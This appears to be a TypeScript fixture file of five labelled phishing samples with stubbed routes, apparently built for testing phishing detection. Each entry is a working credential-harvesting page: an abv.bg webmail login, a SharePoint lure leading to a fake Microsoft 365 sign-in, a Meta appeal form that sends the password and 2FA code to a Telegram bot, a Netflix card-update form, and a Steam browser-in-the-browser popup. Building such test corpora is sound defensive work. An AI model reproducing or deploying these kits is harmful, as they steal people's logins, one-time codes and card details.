import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { page, b64, favicon, wordmark, baseCss, cardFieldScript, chunks, xorList, pctAll } from '../parts/yd-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
(() => {
  const host = 'abv-bg-poshta.000webhostapp.com';
  const css = `body{margin:0;background:#f0f0f0;font-family:Tahoma,Arial,sans-serif;font-size:13px}
#h{background:#fff;border-bottom:1px solid #ddd;padding:10px 30px}
#b{width:340px;margin:60px auto;background:#fff;border:1px solid #d0d0d0;border-radius:3px;padding:24px}
#b h3{margin:0 0 16px;font-size:16px;color:#c1272d}
#b input.t{width:100%;box-sizing:border-box;padding:9px;border:1px solid #bbb;margin:4px 0 12px}
#b .s{background:#c1272d;color:#fff;border:0;padding:9px 26px;border-radius:3px;cursor:pointer}
#e{color:#c00;display:none;margin-bottom:10px}
.f{text-align:center;color:#888;font-size:11px}`;
  const body = `<div id="h">${wordmark('abv.bg', '#c1272d', { mark: 'none', width: 100 })}</div>
<div id="b"><h3>Вход в пощата</h3>
<div id="e">Грешно потребителско име или парола.</div>
<form id="lf">
<label>Електронна поща</label><input class="t" name="email" id="em" placeholder="потребител@abv.bg" required>
<label>Парола</label><input class="t" type="password" name="pass" id="pw" required>
<input class="s" type="submit" value="Вход">
</form>
<p style="font-size:12px;color:#555">Вашата пощенска кутия ще бъде деактивирана поради неактивност. Влезте, за да я запазите активна.</p>
</div>
<p class="f">© 2025 АБВ Интерактив. Всички права запазени.</p>`;
  const js = `<script>
var n=0;var h=location.hash.slice(1);if(h&&h.indexOf('@')>0)document.getElementById('em').value=decodeURIComponent(h);
document.getElementById('lf').addEventListener('submit',function(e){e.preventDefault();n++;
var d=new URLSearchParams();d.append('email',em.value);d.append('pass',pw.value);d.append('try',n);
fetch('mail.php',{method:'POST',body:d}).finally(function(){if(n<2){document.getElementById('e').style.display='block';pw.value='';}else{location.href='https://www.abv.bg/'}});});
</script>`;
  return {
    id: 'yd-abv-bg-double-entry-webmail', label: 'phishing', kind: 'webmail-kit',
    url: `https://${host}/abv/index.html`,
    body: page({ lang: 'bg', title: 'АБВ Поща – Вход', css, body, scripts: js }),
    routes: { [`${host}/abv/mail.php`]: jsonRoute({ r: 'ok' }) },
  } satisfies Entry;
})(),

(() => {
  const lureHost = 'szamla-megosztas-2025.godaddysites.com';
  const kitHost = 'login.microsoftonline.docview-secure.com';
  const lure = page({ lang: 'hu', title: 'Megosztott dokumentum', head: favicon('#0364b8', 'S'),
    css: `${baseCss}body{background:#faf9f8;font-family:"Segoe UI",Arial,sans-serif}.bar{background:#036c70;color:#fff;height:48px;display:flex;align-items:center;padding:0 18px;font-weight:600}
.card{max-width:520px;margin:70px auto;background:#fff;border:1px solid #e1dfdd;border-radius:4px;padding:32px;text-align:center}
.file{display:flex;align-items:center;gap:14px;border:1px solid #edebe9;padding:14px;margin:22px 0;text-align:left}.file b{display:block}
.btn{display:inline-block;background:#0078d4;color:#fff;text-decoration:none;padding:10px 26px;border-radius:2px;font-weight:600}.m{font-size:12px;color:#605e5c;margin-top:24px}`,
    body: `<div class="bar">SharePoint</div>
<div class="card"><svg width="56" height="56" viewBox="0 0 56 56"><rect x="8" y="4" width="40" height="48" rx="3" fill="#c43e1c"/><text x="28" y="36" fill="#fff" font-family="Arial" font-weight="700" font-size="14" text-anchor="middle">PDF</text></svg>
<h2 style="font-weight:600">Kovács Anita megosztott Önnel egy fájlt</h2>
<div class="file"><svg width="32" height="32"><rect width="32" height="32" rx="3" fill="#c43e1c"/></svg><div><b>Szamla_2025-0318_kiegyenlitetlen.pdf</b><span style="font-size:13px;color:#605e5c">214 KB · Módosítva: tegnap</span></div></div>
<p>A dokumentum megtekintéséhez erősítse meg e-mail címét.</p>
<a class="btn" href="https://${kitHost}/common/oauth2/v2.0/authorize?client_id=4765445b&amp;response_type=code&amp;sso_reload=true">Dokumentum megnyitása</a>
<p class="m">Ezt az értesítést a Microsoft OneDrive küldte. Adatvédelmi nyilatkozat</p></div>` });
  const kitCss = `${baseCss}body{background:#f2f2f2 url("data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' width='1600' height='900'%3E%3Crect fill='%23e6eef5' width='1600' height='900'/%3E%3Cpath d='M0 700 C400 600 800 800 1600 650 L1600 900 L0 900Z' fill='%23dbe7f1'/%3E%3C/svg%3E") center/cover;font-family:"Segoe UI","Segoe UI Web",Arial,sans-serif}
.box{width:440px;margin:12vh auto 0;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
.ms{display:flex;gap:3px;flex-wrap:wrap;width:23px;margin-bottom:16px}.ms i{width:10px;height:10px;display:block}
h1{font-size:24px;font-weight:600;margin:10px 0 14px}.id{font-size:15px;margin-bottom:10px}
input{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;outline:none}
.err{color:#e81123;font-size:14px;display:none;margin:8px 0}
.nxt{float:right;margin-top:26px;background:#0067b8;color:#fff;border:0;padding:7px 30px;font-size:15px;cursor:pointer}
.lnk{font-size:13px;color:#0067b8;margin-top:16px;display:block}`;
  const kitBody = `<div class="box"><div class="ms"><i style="background:#f25022"></i><i style="background:#7fba00"></i><i style="background:#00a4ef"></i><i style="background:#ffb900"></i></div><span style="font-size:19px;color:#737373;font-weight:600;position:relative;top:-38px;left:32px">Microsoft</span>
<div id="s1"><h1>Bejelentkezés</h1><div class="err" id="e1">Adjon meg egy érvényes e-mail-címet.</div><input id="em" type="email" placeholder="E-mail-cím, telefonszám vagy Skype-azonosító"><a class="lnk" href="#">Nem fér hozzá a fiókjához?</a><button class="nxt" id="n1">Tovább</button><div style="clear:both"></div></div>
<div id="s2" style="display:none"><div class="id" id="who"></div><h1>Jelszó megadása</h1><div class="err" id="e2">A fiókja vagy a jelszava helytelen.</div><input id="pw" type="password" placeholder="Jelszó"><a class="lnk" href="#">Elfelejtettem a jelszavamat</a><button class="nxt" id="n2">Bejelentkezés</button><div style="clear:both"></div></div></div>`;
  const kitJs = `<script>
var c=0;
function v(m){return /^[^@\\s]+@[^@\\s]+\\.[^@\\s]+$/.test(m)}
n1.onclick=function(){if(!v(em.value)){e1.style.display='block';return}who.textContent=em.value;s1.style.display='none';s2.style.display='block'};
n2.onclick=function(){c++;fetch('/api/v1/verify',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({u:em.value,p:pw.value,a:c,r:document.referrer})}).then(function(r){return r.json()}).then(function(j){if(c<2||!j.ok){e2.style.display='block';pw.value=''}else location.replace(j.redirect)}).catch(function(){e2.style.display='block'})};
</script>`;
  return {
    id: 'yd-sharepoint-lure-hu-m365-kit', label: 'phishing', kind: 'lure-to-m365-kit',
    url: `https://${lureHost}/`,
    body: lure,
    routes: {
      [`${kitHost}/common/oauth2/v2.0/authorize`]: htmlRoute(page({ lang: 'hu', title: 'Bejelentkezés a fiókba', css: kitCss, body: kitBody, scripts: kitJs })),
      [`${kitHost}/api/v1/verify`]: jsonRoute({ ok: true, redirect: 'https://www.office.com/' }),
    },
  } satisfies Entry;
})(),

(() => {
  const host = 'meta-business-odvolani-7721.vercel.app';
  const bot = '6921847713:AAFq8Rr2LxZp0vWkHc3nJd9TgE5uYb1oQsM';
  const css = `${baseCss}body{background:#f0f2f5;font-family:Helvetica,Arial,sans-serif}
.nav{background:#fff;height:56px;box-shadow:0 1px 2px rgba(0,0,0,.1);display:flex;align-items:center;padding:0 20px;gap:10px;font-weight:600;color:#1c2b33}
.w{max-width:680px;margin:24px auto;padding:0 14px}.c{background:#fff;border-radius:8px;box-shadow:0 1px 2px rgba(0,0,0,.1);padding:22px;margin-bottom:16px}
h2{margin:0 0 10px;font-size:20px}.red{color:#c00;font-weight:600}
label{display:block;font-size:14px;font-weight:600;margin:14px 0 6px}input,textarea{width:100%;padding:11px;border:1px solid #ccd0d5;border-radius:6px}
.b{background:#0866ff;color:#fff;border:0;border-radius:6px;padding:11px 20px;font-weight:700;margin-top:16px;cursor:pointer}
.modal{position:fixed;inset:0;background:rgba(0,0,0,.5);display:none;align-items:center;justify-content:center}.modal.on{display:flex}.modal .c{width:380px}`;
  const body = `<div class="nav"><svg width="30" height="20" viewBox="0 0 60 40"><path d="M8 30c0-14 8-24 16-24 6 0 10 6 16 16s10 14 14 14" stroke="#0866ff" stroke-width="6" fill="none"/></svg>Meta Business Help Center</div>
<div class="w">
<div class="c"><h2>Vaše stránka byla zablokována</h2>
<p>Obdrželi jsme několik stížností na porušení autorských práv ve vašem obsahu. <span class="red">Pokud se do 24 hodin neodvoláte, stránka bude trvale odstraněna.</span></p>
<p>Číslo případu: <b>#CZ-48101-77294</b></p></div>
<div class="c"><h2>Formulář odvolání</h2>
<form id="ap">
<label>Celé jméno</label><input name="jmeno" required>
<label>Firemní e-mail</label><input name="email" type="email" required>
<label>Osobní e-mail</label><input name="email2" type="email">
<label>Telefon</label><input name="tel" required>
<label>Název stránky na Facebooku</label><input name="stranka" required>
<label>Zdůvodnění</label><textarea name="duvod" rows="3">Nedomnívám se, že jsem porušil(a) autorská práva.</textarea>
<button class="b">Odeslat</button>
</form></div>
</div>
<div class="modal" id="m1"><div class="c"><h2>Z bezpečnostních důvodů zadejte heslo</h2><input id="pw" type="password" placeholder="Heslo k Facebooku"><button class="b" id="bp">Pokračovat</button></div></div>
<div class="modal" id="m2"><div class="c"><h2>Dvoufázové ověření</h2><p>Zadejte 6 nebo 8místný kód z ověřovací aplikace nebo SMS.</p><input id="tf" inputmode="numeric" maxlength="8"><button class="b" id="bt">Odeslat</button></div></div>`;
  const js = `<script>
var B='${bot}',CH='-4129934480',info='';
function t(s){return fetch('https://api.telegram.org/bot'+B+'/sendMessage?chat_id='+CH+'&text='+encodeURIComponent(s)).catch(function(){})}
ap.onsubmit=function(e){e.preventDefault();var a=[];new FormData(ap).forEach(function(v,k){a.push(k+': '+v)});info=a.join('\\n');t('META APPEAL\\n'+info);m1.classList.add('on')};
bp.onclick=function(){t('PASS: '+pw.value+'\\n'+info).then(function(){m1.classList.remove('on');m2.classList.add('on')})};
bt.onclick=function(){t('2FA: '+tf.value).then(function(){location.href='https://www.facebook.com/help'})};
</script>`;
  return {
    id: 'yd-meta-page-appeal-cz-kit', label: 'phishing', kind: 'social-appeal-kit',
    url: `https://${host}/case/CZ-48101-77294`,
    body: page({ lang: 'cs', title: 'Meta Business Help Center | Odvolání', css, body, scripts: js }),
    routes: { [`api.telegram.org/bot${bot}/sendMessage`]: jsonRoute({ ok: true }) },
  } satisfies Entry;
})(),

(() => {
  const host = 'netflix-gr.ananeosi-syndromis.com';
  const css = `${baseCss}body{background:#000 linear-gradient(rgba(0,0,0,.6),rgba(0,0,0,.85));color:#fff;font-family:"Netflix Sans","Helvetica Neue",Arial,sans-serif;min-height:100vh}
.logo{padding:24px 46px}.box{max-width:450px;margin:0 auto 60px;background:rgba(0,0,0,.78);padding:48px 60px;border-radius:4px}
h1{font-size:28px;margin:0 0 12px}p{color:#bbb;font-size:15px}
.f{margin:12px 0}.f input{width:100%;background:#333;border:0;border-radius:4px;color:#fff;padding:16px 18px;font-size:16px}.row{display:flex;gap:10px}.row .f{flex:1}
.btn{width:100%;background:#e50914;color:#fff;border:0;border-radius:4px;padding:15px;font-size:16px;font-weight:700;margin-top:20px;cursor:pointer}
.small{font-size:12px;color:#8c8c8c;margin-top:18px}`;
  const body = `<div class="logo">${wordmark('NETFLIX', '#e50914', { mark: 'none', width: 140 })}</div>
<div class="box">
<h1>Ενημερώστε τα στοιχεία πληρωμής</h1>
<p>Δεν ήταν δυνατή η χρέωση της μηνιαίας συνδρομής σας (11,99 €). Η συνδρομή σας θα ανασταλεί εάν δεν ενημερώσετε τον τρόπο πληρωμής εντός 48 ωρών.</p>
<form id="pay" action="/gr/billing/update.php" method="post">
<div class="f"><input name="fullname" placeholder="Ονοματεπώνυμο" required></div>
<div class="f"><input name="card" placeholder="Αριθμός κάρτας" data-card="number" required></div>
<div class="row"><div class="f"><input name="exp" placeholder="Λήξη ΜΜ/ΕΕ" data-card="expiry" required></div><div class="f"><input name="cvv" placeholder="CVV" data-card="cvc" required></div></div>
<div class="f"><input name="addr" placeholder="Διεύθυνση χρέωσης"></div>
<div class="f"><input name="zip" placeholder="Τ.Κ." inputmode="numeric"></div>
<button class="btn">Ενημέρωση συνδρομής</button>
</form>
<p class="small">Η πληρωμή σας προστατεύεται. Χρειάζεστε βοήθεια; Καλέστε 00 800 4414 1663.</p>
</div>`;
  const thanks = page({ lang: 'el', title: 'Netflix', css, body: `<div class="logo">${wordmark('NETFLIX', '#e50914', { mark: 'none', width: 140 })}</div><div class="box"><h1>Ευχαριστούμε!</h1><p>Η συνδρομή σας ενημερώθηκε. Ανακατεύθυνση…</p></div><script>setTimeout(function(){location.href='https://www.netflix.com/gr/'},3000)</script>` });
  return {
    id: 'yd-netflix-gr-billing-kit', label: 'phishing', kind: 'streaming-billing-kit',
    url: `https://${host}/gr/billing/`,
    body: page({ lang: 'el', title: 'Netflix – Ενημέρωση πληρωμής', head: favicon('#000', 'N', '#e50914'), css, body, scripts: cardFieldScript }),
    routes: { [`${host}/gr/billing/update.php`]: htmlRoute(thanks) },
  } satisfies Entry;
})(),

(() => {
  const host = 'cs2-drop-skinovi.rs-giveaway.com';
  const css = `${baseCss}body{background:#0e141b;color:#c7d5e0;font-family:"Motiva Sans",Arial,sans-serif}
.top{display:flex;align-items:center;padding:18px 30px;background:#171a21}.top .sb{margin-left:auto}
.hero{text-align:center;padding:50px 20px}.hero h1{font-size:40px;color:#fff;margin:0}.hero p{font-size:18px}
.grid{display:grid;grid-template-columns:repeat(4,1fr);gap:14px;max-width:900px;margin:30px auto}.it{background:#1b2838;border-radius:4px;padding:16px;text-align:center;border-bottom:3px solid #eb4b4b}
.sb,.claim{background:linear-gradient(90deg,#06bfff,#2d73ff);color:#fff;border:0;padding:10px 18px;border-radius:3px;font-weight:700;cursor:pointer}
#bitb{position:fixed;top:8%;left:50%;transform:translateX(-50%);width:520px;background:#fff;border-radius:8px;box-shadow:0 10px 40px rgba(0,0,0,.6);display:none;overflow:hidden}
#bitb .chrome{background:#dee1e6;padding:8px 10px;font-size:13px;color:#333;display:flex;align-items:center;gap:8px}
#bitb .url{flex:1;background:#fff;border-radius:14px;padding:4px 12px;color:#111}.url .lk{color:#188038}
#bitb .in{background:#171a21;color:#c7d5e0;padding:30px}#bitb input{width:100%;background:#32353c;border:1px solid #32353c;color:#fff;padding:10px;margin:6px 0 14px;border-radius:2px}
#bitb .go{background:linear-gradient(90deg,#06bfff,#2d73ff);border:0;color:#fff;padding:12px;width:100%;font-size:15px}`;
  const body = `<div class="top">${wordmark('CS2 DROP', '#06bfff', { mark: 'diamond', width: 140 })}<button class="sb" onclick="openW()">Prijavi se preko Steam-a</button></div>
<div class="hero"><h1>Besplatni skinovi za srpsku CS2 zajednicu!</h1><p>Povodom turnira u Beogradu delimo 5.000 skinova. Preostalo: <b id="left">317</b></p></div>
<div class="grid"><div class="it">AK-47 | Redline<br><small>Field-Tested</small></div><div class="it">AWP | Asiimov<br><small>Battle-Scarred</small></div><div class="it">M4A1-S | Printstream<br><small>Minimal Wear</small></div><div class="it">Karambit | Doppler<br><small>Factory New</small></div></div>
<p style="text-align:center"><button class="claim" onclick="openW()">Preuzmi skin</button></p>
<div id="bitb"><div class="chrome"><span>🔒</span><div class="url"><span class="lk">https://</span>steamcommunity.com/openid/login?openid.mode=checkid_setup</div><span onclick="bitb.style.display='none'" style="cursor:pointer">✕</span></div>
<div class="in"><div style="font-size:22px;color:#fff;margin-bottom:16px">STEAM</div><form id="sf"><label>Ime Steam naloga</label><input name="user" required><label>Lozinka</label><input name="pass" type="password" required><button class="go">Prijavi se</button></form>
<form id="gf" style="display:none"><p>Unesite Steam Guard kod iz mobilne aplikacije.</p><input name="guard" maxlength="5" style="text-transform:uppercase"><button class="go">Potvrdi</button></form></div></div>`;
  const js = `<script>
function openW(){bitb.style.display='block'}
setInterval(function(){var l=document.getElementById('left');if(+l.textContent>12)l.textContent=+l.textContent-1},4000);
sf.onsubmit=function(e){e.preventDefault();fetch('/auth/steam.php',{method:'POST',body:new FormData(sf)}).then(function(){sf.style.display='none';gf.style.display='block'})};
gf.onsubmit=function(e){e.preventDefault();fetch('/auth/guard.php',{method:'POST',body:new FormData(gf)}).then(function(){location.href='https://steamcommunity.com/'})};
</script>`;
  return {
    id: 'yd-steam-bitb-skins-rs-kit', label: 'phishing', kind: 'game-bitb-kit',
    url: `https://${host}/`,
    body: page({ lang: 'sr-Latn', title: 'CS2 DROP – Besplatni skinovi', css, body, scripts: js }),
    routes: {
      [`${host}/auth/steam.php`]: jsonRoute({ ok: 1 }),
      [`${host}/auth/guard.php`]: jsonRoute({ ok: 1 }),
    },
  } satisfies Entry;
})(),
];
